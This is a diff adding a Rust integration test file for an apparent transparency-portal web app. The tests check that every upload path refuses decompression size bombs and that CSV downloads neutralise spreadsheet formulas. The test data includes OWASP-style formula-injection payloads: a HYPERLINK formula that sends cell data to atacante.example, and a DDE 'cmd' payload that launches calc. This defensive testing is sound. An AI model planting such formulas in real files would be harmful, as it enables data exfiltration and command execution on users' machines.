@@ -1,0 +1,407 @@
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+//! What an attacker tries, on every engine: size bombs through every upload path (the
+//! publishing form, the publishing API, a dataset resource, and the command line in a child
+//! process held to 1 GiB of address space), and spreadsheet formulas through every CSV
+//! download.
+
+mod common;
+
+use common::{TestApp, login, user};
+use std::path::Path;
+use std::process::Command;
+use tequio_domain::accounts::{Grant, Role};
+use tequio_domain::transparency::framework::FrameworkFile;
+use tequio_store::audit::Who;
+use tequio_store::transparency as tr;
+
+const FRAMEWORK: &str = include_str!("../../../frameworks/lgtaip2015-art70.json");
+const PASSWORD: &str = "contraseña-larga-1";
+
+/// The issue's four bombs, written once for the whole binary (one holds a GiB, compressed).
+fn bombs() -> &'static [(&'static str, Vec<u8>)] {
+    static FILES: std::sync::OnceLock<Vec<(&'static str, Vec<u8>)>> = std::sync::OnceLock::new();
+    FILES.get_or_init(tequio_testkit::bombs::issue_files)
+}
+
+/// What each bomb must be refused with, wherever it comes in.
+fn expected(name: &str) -> &'static str {
+    match name {
+        "celda-en-XFD1048576.xlsx" => "fila 1048576, columna XFD",
+        "celda-en-ALL100000.xlsx" => "fila 100000, columna ALL",
+        _ => "al descomprimirse",
+    }
+}
+
+struct World {
+    subject: i64,
+    /// Obligation 70-VIII (Formato 8).
+    viii: i64,
+    dataset: &'static str,
+}
+
+/// A guarantor with the 2015 framework, a subject, its editor and an empty dataset.
+async fn world(app: &TestApp) -> World {
+    let db = &app.db;
+    let sys = Who::system();
+    let tx = db.begin().await.unwrap();
+    let g = tequio_store::subjects::ensure_guarantor(&tx, &sys, "Instituto", "INAIP", None, None)
+        .await
+        .unwrap();
+    let subject = tequio_store::subjects::create(
+        &tx,
+        &sys,
+        tequio_store::subjects::SubjectInput {
+            name: "Universidad Autónoma de Yucatán".into(),
+            guarantor_id: Some(g),
+            ..Default::default()
+        },
+    )
+    .await
+    .unwrap();
+    tr::import_framework(&tx, &sys, g, &FrameworkFile::parse(FRAMEWORK).unwrap())
+        .await
+        .unwrap();
+    let input = tequio_domain::catalog::DatasetInput {
+        name: "nomina".into(),
+        title: "Nómina".into(),
+        ..Default::default()
+    }
+    .clean()
+    .unwrap();
+    tequio_store::catalog::create_dataset(&tx, &sys, subject.id, &input)
+        .await
+        .unwrap();
+    tx.commit().await.unwrap();
+    let viii = tr::obligation_by_code(db, g, "70-VIII")
+        .await
+        .unwrap()
+        .unwrap()
+        .id;
+    user(
+        db,
+        "editora@uady.test",
+        PASSWORD,
+        &[Grant::new(Role::SubjectEditor, Some(subject.id)).unwrap()],
+    )
+    .await;
+    World {
+        subject: subject.id,
+        viii,
+        dataset: "nomina",
+    }
+}
+
+fn file_form(name: &str, bytes: &[u8], extra: &[(&str, &str)]) -> reqwest::multipart::Form {
+    let mut form = reqwest::multipart::Form::new().part(
+        "file",
+        reqwest::multipart::Part::bytes(bytes.to_vec()).file_name(name.to_owned()),
+    );
+    for (k, v) in extra {
+        form = form.text(k.to_string(), v.to_string());
+    }
+    form
+}
+
+/// Creates a publishing token for the subject through its page.
+async fn token(app: &TestApp, editor: &reqwest::Client, subject: i64) -> String {
+    let res = editor
+        .post(app.url(&format!("/sujetos/{subject}/tokens")))
+        .form(&[("name", "Sistema de nómina")])
+        .send()
+        .await
+        .unwrap();
+    let html = res.text().await.unwrap();
+    let at = html.find("tqo_").unwrap();
+    html[at..at + 68].to_owned()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn size_bombs_are_refused_by_every_upload_and_the_server_lives() {
+    for app in common::apps().await {
+        let engine = app.t.name;
+        let w = world(&app).await;
+        let editor = app.browser();
+        login(&app, &editor, "editora@uady.test", PASSWORD).await;
+        let token = token(&app, &editor, w.subject).await;
+        let head = tequio_store::audit::head(&app.db).await.unwrap();
+        for (name, bytes) in bombs() {
+            let says = expected(name);
+            // The publishing form's preview.
+            let res = editor
+                .post(app.url(&format!(
+                    "/sujetos/{}/obligaciones/{}/publicar",
+                    w.subject, w.viii
+                )))
+                .multipart(file_form(name, bytes, &[]))
+                .send()
+                .await
+                .unwrap();
+            assert_eq!(res.status(), 422, "{engine}: {name} by the form");
+            let html = res.text().await.unwrap();
+            assert!(
+                html.contains(says),
+                "{engine}: {name}: «{says}» not in the page"
+            );
+            // The publishing API.
+            let res = reqwest::Client::new()
+                .post(app.url("/api/v1/publications"))
+                .bearer_auth(&token)
+                .multipart(file_form(name, bytes, &[("obligation", "70-VIII")]))
+                .send()
+                .await
+                .unwrap();
+            assert_eq!(res.status(), 422, "{engine}: {name} by the API");
+            let problem = res.text().await.unwrap();
+            assert!(problem.contains(says), "{engine}: {name}: {problem}");
+            // A dataset's resource.
+            let res = editor
+                .post(app.url(&format!("/datos/{}/recursos/nuevo", w.dataset)))
+                .multipart(file_form(name, bytes, &[]))
+                .send()
+                .await
+                .unwrap();
+            assert_eq!(res.status(), 422, "{engine}: {name} as a resource");
+            let html = res.text().await.unwrap();
+            let place = if name.contains("ALL") {
+                "columna ALL"
+            } else {
+                says
+            };
+            assert!(
+                html.contains(place),
+                "{engine}: {name}: «{place}» not in the page"
+            );
+        }
+        assert_eq!(
+            tequio_store::audit::head(&app.db).await.unwrap(),
+            head,
+            "{engine}: nothing was saved"
+        );
+        let res = reqwest::get(app.url("/healthz")).await.unwrap();
+        assert_eq!(res.status(), 200, "{engine}: the server still answers");
+    }
+}
+
+/// Runs `tequio` in a child process held to 1 GiB of address space.
+fn tequio_limited(url: &str, data: &Path, args: &[&str]) -> std::process::Output {
+    Command::new("sh")
+        .arg("-c")
+        .arg("ulimit -v 1048576 && exec \"$0\" \"$@\"")
+        .arg(env!("CARGO_BIN_EXE_tequio"))
+        .args(["--data-dir", &data.display().to_string()])
+        .args(args)
+        .env("TEQUIO_DATABASE_URL", url)
+        .env("TEQUIO_LOG", "warn")
+        .output()
+        .unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn size_bombs_are_refused_by_the_command_line_within_a_gibibyte() {
+    for t in tequio_testkit::databases().await {
+        let engine = t.name;
+        let app = common::spawn(t).await;
+        let w = world(&app).await;
+        let dir = tequio_testkit::TempDir::new();
+        let head = tequio_store::audit::head(&app.db).await.unwrap();
+        for (name, bytes) in bombs() {
+            let path = dir.0.join(name);
+            std::fs::write(&path, bytes).unwrap();
+            let file = path.display().to_string();
+            let subject = w.subject.to_string();
+            for args in [
+                vec![
+                    "import",
+                    "--subject",
+                    &subject,
+                    "--obligation",
+                    "70-VIII",
+                    "--period",
+                    "2025-T3",
+                    &file,
+                ],
+                vec!["dataset", "add-file", "--dataset", w.dataset, &file],
+            ] {
+                let out = tequio_limited(&app.t.url, &dir.0, &args);
+                let printed = format!(
+                    "{}{}",
+                    String::from_utf8_lossy(&out.stdout),
+                    String::from_utf8_lossy(&out.stderr)
+                );
+                // Exit 1 with the reason: not killed by a signal, not aborted (134).
+                assert_eq!(
+                    out.status.code(),
+                    Some(1),
+                    "{engine}: {} {name}: {printed}",
+                    args[0]
+                );
+                let says = if args[0] == "dataset" && name.contains("ALL") {
+                    "columna ALL"
+                } else {
+                    expected(name)
+                };
+                assert!(
+                    printed.contains(says),
+                    "{engine}: {} {name}: «{says}» not in {printed}",
+                    args[0]
+                );
+            }
+        }
+        assert_eq!(
+            tequio_store::audit::head(&app.db).await.unwrap(),
+            head,
+            "{engine}: nothing was saved"
+        );
+    }
+}
+
+/// What a spreadsheet would run, as OWASP lists it.
+const FORMULAS: [&str; 3] = [
+    "=HYPERLINK(\"http://atacante.example/?d=\"&A1,\"Ver\")",
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+];
+
+async fn body(client: &reqwest::Client, url: String) -> String {
+    let res = client.get(url).send().await.unwrap();
+    assert_eq!(res.status(), 200);
+    res.text().await.unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn formulas_are_neutralised_in_every_csv_download_and_read_back_exactly() {
+    for app in common::apps().await {
+        let engine = app.t.name;
+        let w = world(&app).await;
+        let editor = app.browser();
+        login(&app, &editor, "editora@uady.test", PASSWORD).await;
+        let token = token(&app, &editor, w.subject).await;
+        let public = reqwest::Client::new();
+
+        // A publication whose names hold formulas.
+        let f8 = tr::current_formats(&app.db, w.viii)
+            .await
+            .unwrap()
+            .remove(0);
+        let period = tequio_domain::transparency::period::Period::parse("2025-T3").unwrap();
+        let mut out = csv::Writer::from_writer(Vec::new());
+        out.write_record(tequio_domain::transparency::export::csv_header(&f8.def))
+            .unwrap();
+        for (i, r) in tequio::synthetic::records(&f8.def, period, 3, 7, false)
+            .iter()
+            .enumerate()
+        {
+            let mut row = tequio_domain::transparency::export::csv_row(&f8.def, r);
+            row[8] = FORMULAS[i].to_owned();
+            out.write_record(row).unwrap();
+        }
+        let publish = |name: &'static str, bytes: Vec<u8>| {
+            public
+                .post(app.url("/api/v1/publications"))
+                .bearer_auth(&token)
+                .multipart(file_form(
+                    name,
+                    &bytes,
+                    &[("obligation", "70-VIII"), ("period", "2025-T3")],
+                ))
+                .send()
+        };
+        let res = publish("nomina.csv", out.into_inner().unwrap())
+            .await
+            .unwrap();
+        assert_eq!(res.status(), 201, "{engine}");
+        let p: serde_json::Value = res.json().await.unwrap();
+        let csv_url = app.url(&format!("/publicaciones/{}/registros.csv", p["id"]));
+        let safe = body(&public, csv_url.clone()).await;
+        let exact = body(&public, format!("{csv_url}?exacto=1")).await;
+        for f in FORMULAS {
+            let quoted = |s: &str| {
+                let mut w = csv::Writer::from_writer(Vec::new());
+                w.write_record([s]).unwrap();
+                String::from_utf8(w.into_inner().unwrap())
+                    .unwrap()
+                    .trim_end()
+                    .to_owned()
+            };
+            assert!(
+                safe.contains(&format!(",{},", quoted(&format!("'{f}")))),
+                "{engine}: {f} not neutralised in registros.csv"
+            );
+            assert!(
+                exact.contains(&format!(",{},", quoted(f))),
+                "{engine}: {f} not exact with exacto=1"
+            );
+        }
+        // The neutralised download, published again, is the same content: nothing new.
+        let res = publish("registros.csv", safe.into_bytes()).await.unwrap();
+        assert_eq!(
+            res.status(),
+            200,
+            "{engine}: the download read back is the same content (same hash)"
+        );
+
+        // A resource with formulas, and a numeric column with a negative number.
+        let data = format!(
+            "clave,monto,concepto\n1,-5,\"{}\"\n2,10,\"{}\"\n3,7,\"{}\"\n",
+            FORMULAS[0].replace('"', "\"\""),
+            FORMULAS[1],
+            FORMULAS[2]
+        );
+        let res = editor
+            .post(app.url(&format!("/datos/{}/recursos/nuevo", w.dataset)))
+            .multipart(file_form(
+                "pagos.csv",
+                data.as_bytes(),
+                &[("name", "Pagos")],
+            ))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(res.status(), 303, "{engine}");
+        let location = res.headers()["location"].to_str().unwrap().to_owned();
+        let rid: i64 = location.rsplit('/').next().unwrap().parse().unwrap();
+        for _ in 0..200 {
+            let r = tequio_store::catalog::resource(&app.db, rid).await.unwrap();
+            if r.load_status == "done" {
+                break;
+            }
+            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+        }
+        let datos = body(&public, app.url(&format!("{location}/datos.csv"))).await;
+        assert!(datos.contains("1,-5,\"'=HYPERLINK("), "{engine}: {datos}");
+        assert!(datos.contains("2,10,'+1+cmd|"), "{engine}: {datos}");
+        assert!(datos.contains("3,7,'@SUM(1+1)"), "{engine}: {datos}");
+        let exact = body(&public, app.url(&format!("{location}/datos.csv?exacto=1"))).await;
+        assert!(exact.contains("1,-5,\"=HYPERLINK("), "{engine}: {exact}");
+        let json = body(&public, app.url(&format!("{location}/datos.json"))).await;
+        assert!(
+            json.contains("\"@SUM(1+1)\""),
+            "{engine}: JSON keeps the exact value"
+        );
+        let search = |extra: &str| {
+            app.url(&format!(
+                "/api/3/action/datastore_search?resource_id={rid}&records_format=csv{extra}"
+            ))
+        };
+        let v: serde_json::Value = public
+            .get(search(""))
+            .send()
+            .await
+            .unwrap()
+            .json()
+            .await
+            .unwrap();
+        let records = v["result"]["records"].as_str().unwrap();
+        assert!(records.contains("3,3,7,'@SUM(1+1)"), "{engine}: {records}");
+        let v: serde_json::Value = public
+            .get(search("&exact=true"))
+            .send()
+            .await
+            .unwrap()
+            .json()
+            .await
+            .unwrap();
+        let records = v["result"]["records"].as_str().unwrap();
+        assert!(records.contains("3,3,7,@SUM(1+1)"), "{engine}: {records}");
+    }
+}
